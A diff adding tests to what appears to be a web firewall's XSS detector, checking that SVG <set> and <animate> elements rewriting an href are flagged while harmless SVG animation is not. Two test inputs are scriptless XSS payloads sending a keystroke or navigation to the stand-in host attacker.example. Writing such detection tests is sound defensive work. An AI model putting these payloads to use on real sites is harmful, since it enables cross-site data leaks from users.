@@ -216,3 +216,12 @@ describe('a run of quotes and ">" that closes what the value landed in, straight
     for (const v of ['"><b>bold', '>>>"quoted"<i>', 'I rate it 5 ">\'<b>', '>>>><b>', "'''<b>", '5\'10" <b>tall</b>']) expect(tagBreakout(v.toLowerCase()), v).toBe(-1)
   })
 })
+
+describe('an SVG animation of an href (html5sec\'s scriptless keystroke leak)', () => {
+  it('is a risky tag at level 2 where <set> or <animate> changes an href, not where a drawing animates its paint', () => {
+    expect(rules(review('<svg height="50px"><image xmlns:xlink="http://www.w3.org/1999/xlink"><set attributeName="xlink:href" begin="accessKey(a)" to="//attacker.example/?a" /></image></svg>'))).toEqual(['waf.xss.risky-tag'])
+    expect(rules(review('<svg><a><animate attributeName=href values=//attacker.example/ /><text>x</text></a></svg>'))).toEqual(['waf.xss.risky-tag'])
+    expect(rules(review('<svg viewBox="0 0 10 10"><circle r="4"><animate attributeName="opacity" values="0;1" dur="2s" repeatCount="indefinite"/></circle></svg>'))).toEqual([])
+    expect(rules(review('In SMIL you set attributeName = href on the animation element'))).toEqual([])
+  })
+})
